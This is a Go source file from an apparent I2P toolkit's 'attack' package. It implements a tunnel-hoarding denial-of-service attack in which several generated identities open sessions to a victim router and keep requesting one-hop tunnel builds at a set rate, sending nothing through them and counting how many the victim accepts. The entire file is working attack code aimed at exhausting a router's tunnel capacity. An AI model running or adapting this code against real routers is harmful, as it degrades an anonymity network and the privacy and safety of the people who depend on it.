package attack

import (
	"context"
	"sync"
	"time"

	"i2ptoolkit/pkg/i2np"
	"i2ptoolkit/pkg/routerinfo"
	"i2ptoolkit/pkg/tunnel"
)

// Hoard is identities that ask the victim for tunnels without end, and send nothing
// through them.
type Hoard struct {
	Victim *routerinfo.RouterInfo
	Dials  []dialFunc // of an identity each
	Rate   float64    // builds a second, of all together
	counts
}

// Run is Attack's.
func (h *Hoard) Run(ctx context.Context) {
	var wg sync.WaitGroup
	for _, dial := range h.Dials {
		wg.Go(func() {
			again(ctx, time.Second, func() { h.outcome("hoarders", h.ask(ctx, dial)) })
		})
	}
	wg.Wait()
}

// ask asks for tunnels over one session until it ends.
func (h *Hoard) ask(ctx context.Context, dial dialFunc) error {
	id, err := NewIdentity(nil, "LR")
	if err != nil {
		return err
	}
	s, err := OpenSession(ctx, dial, id, h.Victim, false)
	if err != nil {
		return err
	}
	defer s.Close()
	b := &builder{id: id, victim: h.Victim, builds: make(map[uint32]*tunnel.Build)}
	asking, cancel := context.WithCancel(ctx)
	defer cancel()
	go pace(asking, h.Rate/float64(len(h.Dials)), 2, func() {
		m, err := b.request()
		if err == nil {
			err = s.Send(m)
			m.Release()
		}
		h.outcome("builds", err)
	})
	s.Listen(ctx, func(m i2np.Message) {
		if accepted, ok := b.reply(m); ok {
			h.add(map[bool]string{true: "builds accepted", false: "builds refused"}[accepted], 1)
		}
	})
	return nil
}

// builder builds tunnels of one hop, the victim, that lead to ourselves: it answers
// over the session over which it was asked.
type builder struct {
	id     *Identity
	victim *routerinfo.RouterInfo

	mu     sync.Mutex
	builds map[uint32]*tunnel.Build // by the id of the reply
}

// maxBuilds bounds the builds of which the answer is awaited.
const maxBuilds = 1024

// request makes a request; its receiver owns it.
func (b *builder) request() (i2np.Message, error) {
	key, err := keyOf(b.victim)
	if err != nil {
		return i2np.Message{}, err
	}
	build, err := tunnel.NewBuild(time.Now(), tunnel.Config{
		Inbound: true, Us: b.id.Hash(), Hops: []tunnel.Hop{{Router: b.victim.Hash(), Static: key}},
	})
	if err != nil {
		return i2np.Message{}, err
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.builds) >= maxBuilds {
		clear(b.builds)
	}
	b.builds[build.ReplyID()] = build
	return build.Message(), nil
}

// reply tells whether the victim agreed, and whether this is an answer at all.
func (b *builder) reply(m i2np.Message) (accepted, ok bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	build := b.builds[m.ID]
	if build == nil || m.Type != build.ReplyType() {
		return false, false
	}
	delete(b.builds, m.ID)
	r, err := build.HandleReply(m)
	return err == nil && r.Accepted, err == nil
}
